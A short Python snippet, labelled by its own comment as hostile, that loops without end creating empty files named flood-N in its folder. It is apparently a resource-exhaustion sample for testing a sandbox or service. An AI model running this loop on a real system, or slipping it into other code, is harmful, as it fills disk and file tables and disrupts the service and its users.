# Hostile: creates empty files in its folder without end before binding.
n = 0
while True:
    open('flood-%d' % n, 'w').close()
    n += 1
